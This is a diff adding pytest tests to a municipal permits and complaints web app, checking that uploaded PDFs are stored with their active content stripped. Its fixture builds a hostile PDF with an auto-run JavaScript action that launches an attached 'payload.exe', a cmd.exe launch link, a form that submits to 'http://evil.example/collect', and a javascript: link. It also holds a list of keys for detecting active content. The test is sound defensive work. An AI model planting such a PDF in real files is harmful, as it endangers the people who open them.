@@ -8,6 +8,7 @@ import io
 import re
 import threading
 
+import pikepdf
 import pytest
 import requests
 import sqlalchemy as sa
@@ -16,6 +17,9 @@ from werkzeug.datastructures import FileStorage
 
 from app.complaints.models import Complaint, ComplaintPhoto
 from app.extensions import db
+from app.models import User
+from app.permits import services as permit_services
+from app.permits.models import PermitCase, PermitType
 from app.uploads import UploadError, photo_decoder, store_upload, stored_path
 from tests.complaints.helpers import CHEFCHAOUEN_CODE, choose_commune, filing_form
 from tests.permits.helpers import PNG_RGBA, huge_png, photo_bytes
@@ -201,3 +205,172 @@ def test_complaints_sent_at_once_wait_their_turn_and_are_all_filed_with_their_ph
         thread.join(120)
     assert answers == [303, 303, 303]
     assert complaints(app) == [(DESCRIPTION, 3)] * 3
+
+
+# --- PDFs: active content -------------------------------------------------------------------------
+
+ACTIVE_KEYS = {"/OpenAction", "/AA", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA"}
+SCRIPT = "app.alert('owned'); this.exportDataObject({cName: 'payload.exe', nLaunch: 2});"
+PAYLOAD = b"MZ\x90\x00 the payload"
+
+
+def javascript(code: str = SCRIPT) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))
+
+
+def hostile_pdf(pages: int = 3) -> bytes:
+    """Every place a PDF keeps active content: the document's opening, its named scripts, a page's
+    and a form field's additional actions, a link that launches a program, an action chain, an
+    XFA form, an attached file and an annotation carrying one. One honest web link too."""
+    pdf = pikepdf.new()
+    for _ in range(pages):
+        pdf.add_blank_page(page_size=(595, 842))
+    pdf.Root.OpenAction = javascript()
+    pdf.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(javascript())]))
+    )
+    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, PAYLOAD, mime_type="application/octet-stream")
+    first, second, third = pdf.pages[0], pdf.pages[1], pdf.pages[2]
+    first.AA = pikepdf.Dictionary(O=javascript(), C=javascript())
+    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"), Win=pikepdf.Dictionary(F="cmd.exe"))
+    chain = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([third.obj, pikepdf.Name.Fit]), Next=javascript())
+    widget = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Widget,
+        FT=pikepdf.Name.Btn,
+        T=pikepdf.String("send"),
+        Rect=[0, 0, 50, 50],
+        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/collect")),
+        AA=pikepdf.Dictionary(K=javascript()),
+    )
+    web_link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=[0, 100, 200, 120],
+        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.chefchaouen.ma/")),
+    )
+    script_link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=[0, 130, 200, 150],
+        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert(1)")),
+    )
+    second.Annots = pdf.make_indirect(
+        pikepdf.Array(
+            [
+                pdf.make_indirect(widget),
+                pdf.make_indirect(
+                    pikepdf.Dictionary(
+                        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 60, 50, 90], A=launch
+                    )
+                ),
+                pdf.make_indirect(
+                    pikepdf.Dictionary(
+                        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[60, 60, 90, 90], A=chain
+                    )
+                ),
+                pdf.make_indirect(web_link),
+                pdf.make_indirect(script_link),
+            ]
+        )
+    )
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[second.Annots[0]], XFA=pikepdf.Stream(pdf, b"<xdp:xdp/>"))
+    attached = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.FileAttachment,
+        Rect=[0, 0, 20, 20],
+        FS=pdf.attachments["payload.exe"].obj,
+    )
+    third.Annots = pikepdf.Array([pdf.make_indirect(attached)])
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def direct(value) -> bool:
+    """A value held inside its object (an indirect one is in pdf.objects already)."""
+    return isinstance(value, pikepdf.Object) and not value.is_indirect
+
+
+def active_content(pdf: pikepdf.Pdf) -> list[str]:
+    """Every piece of active content left in the file, wherever it is (each object, each nested value)."""
+    found, stack = [], [pdf.trailer, *pdf.objects]
+    while stack:
+        obj = stack.pop()
+        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
+            found += [key for key in obj if key in ACTIVE_KEYS]
+            kind, subtype = str(obj.get("/S", "")), str(obj.get("/Subtype", ""))
+            if kind in ("/JavaScript", "/Launch", "/SubmitForm") or subtype == "/FileAttachment":
+                found.append(kind or subtype)
+            if kind == "/URI" and not str(obj.URI).startswith("https://"):
+                found.append(str(obj.URI))
+            stack += [obj[key] for key in obj if direct(obj[key])]
+        elif isinstance(obj, pikepdf.Array):
+            stack += [item for item in obj if direct(item)]
+        elif isinstance(obj, pikepdf.String) and "app.alert" in str(obj):
+            found.append(str(obj))
+    return found
+
+
+def test_the_hostile_pdf_really_carries_its_active_content():
+    with pikepdf.open(io.BytesIO(hostile_pdf())) as pdf:
+        found = active_content(pdf)
+        assert {"/OpenAction", "/AA", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA", "/Launch", "/SubmitForm"} <= set(
+            found
+        )
+        assert "/FileAttachment" in found and "javascript:app.alert(1)" in found
+
+
+def test_a_pdf_with_javascript_actions_and_attachments_is_stored_without_them_and_with_its_pages(app, folder):
+    data, stored = store(app, hostile_pdf(pages=3), "plans.pdf")
+    assert stored.content_type == "application/pdf" and stored.size == len(data)
+    assert PAYLOAD not in data and b"cmd.exe" not in data and b"evil.example" not in data
+    with pikepdf.open(io.BytesIO(data)) as pdf:
+        assert len(pdf.pages) == 3
+        assert active_content(pdf) == []
+        assert len(pdf.attachments) == 0
+        # What does no harm stays: the web link, and the link to page 3 (only its script is gone).
+        links = [annot.A for annot in pdf.pages[1].Annots if "/A" in annot]
+        assert [str(link.S) for link in links] == ["/GoTo", "/URI"]
+        assert str(links[1].URI) == "https://www.chefchaouen.ma/"
+
+
+def test_a_hostile_pdf_sent_with_a_permit_is_stored_clean(client, app, demo, folder):
+    with app.app_context():
+        citizen = db.session.scalar(sa.select(User).where(User.email == "citizen@demo.ma"))
+        permit_type = db.session.scalar(sa.select(PermitType).where(PermitType.code == "building_small"))
+        case_id = permit_services.start(citizen, permit_type, citizen.commune).id
+        db.session.remove()
+    client.signin("citizen@demo.ma")
+    url = f"/permits/{case_id}/documents"
+    response = client.post(url, {"item": "request", "file": (io.BytesIO(hostile_pdf(4)), "request.pdf")}, form_url=url)
+    assert response.status_code in (200, 303)
+    with app.app_context():
+        (document,) = db.session.get(PermitCase, case_id).documents
+        with pikepdf.open(stored_path(document.storage_name)) as pdf:
+            assert len(pdf.pages) == 4 and active_content(pdf) == []
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"%PDF-1.4\nthis is not a PDF at all, only its first and last words\n%%EOF\n",
+        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
+        b"trailer<</Root 1 0 R>>\n%%EOF\n",
+    ],
+    ids=["garbage-between-signature-and-eof", "no-pages"],
+)
+def test_a_broken_pdf_is_refused_in_words(app, folder, data):
+    assert store(app, data, "plans.pdf") == "This PDF is damaged or incomplete. Save it again and send it once more."
+    assert stored_files(folder) == []
+
+
+def test_a_pdf_locked_with_a_password_is_refused_in_words(app, folder):
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    out = io.BytesIO()
+    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
+    assert store(app, out.getvalue(), "plans.pdf") == (
+        "This PDF is protected by a password. Save it without the password and send it again."
+    )
+    assert stored_files(folder) == []
